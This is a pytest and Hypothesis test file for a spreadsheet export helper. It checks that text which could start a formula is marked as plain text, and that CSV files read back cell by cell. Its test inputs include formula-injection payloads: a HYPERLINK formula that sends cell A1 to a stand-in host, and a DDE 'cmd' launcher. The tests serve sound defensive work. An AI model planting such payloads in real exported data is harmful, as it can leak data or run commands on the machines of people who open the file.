"""What somebody wrote stays text in a spreadsheet, whatever it begins with."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from api.spreadsheets import BYTE_ORDER_MARK, cell, rows_as_csv

#: As programs do that look for a formula: without what they pass over.
PASSED_OVER = " \t\r\n\v\f\"'\u00a0\u200b\u200c\u200d\u2060\ufeff\x00"
BEGINNINGS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://x.example?"&A1,"Details")', "+44 20 7946 0000", "-1+1", "@SUM(A1)",
        "  =1+1", "\t=1", "\r=1", "\n=1", "\u00a0=1", "\ufeff=1", "\u200b=1", '"=1+1', "'=1+1",
        "\uff1d1+1", "\uff0d1", "\uff20x", "\x00=1", "\tseen", "=cmd|' /C calc'!A0", "- seen",
    ],
)  # fmt: skip
def test_what_could_be_a_formula_is_marked_as_text(text: str):
    assert cell(text) == "'" + text.replace("\x00", "")


@pytest.mark.parametrize(
    "text", ["Seen at home.", "3 - 4 times", "a=b", "", "Sam's mother", "2026-03-02", "(+44)"]
)
def test_other_words_stay_as_they_are(text: str):
    assert cell(text) == text


def test_what_daybook_itself_counted_is_a_number():
    assert [cell(each) for each in (-3, 2.5, None, True)] == ["-3", "2.5", "", "yes"]
    assert cell(date(2026, 3, 2)) == "2026-03-02"
    assert cell(datetime(2026, 3, 2, 21, 40, tzinfo=UTC)) == "2026-03-02T21:40:00+00:00"


words = st.text(st.one_of(st.sampled_from(PASSED_OVER + BEGINNINGS), st.characters()), max_size=12)


@given(words)
@example("\x00=1")
@example("'\u200b=1")
def test_no_cell_begins_like_a_formula_however_it_is_looked_at(text: str):
    shown = cell(text)

    assert shown.startswith("'") or shown.lstrip(PASSED_OVER)[:1] not in {*BEGINNINGS}
    assert shown[:1] not in {*BEGINNINGS, *"\t\r\n"}


@given(st.lists(st.lists(words, min_size=2, max_size=2), max_size=4))
def test_a_file_is_read_back_cell_by_cell(rows: list[list[str]]):
    file = "".join(rows_as_csv(("§", "=What"), rows))

    assert file.startswith(BYTE_ORDER_MARK)
    read = list(csv.reader(io.StringIO(file.removeprefix(BYTE_ORDER_MARK), newline="")))
    assert read == [["§", "'=What"], *([cell(each) for each in row] for row in rows)]
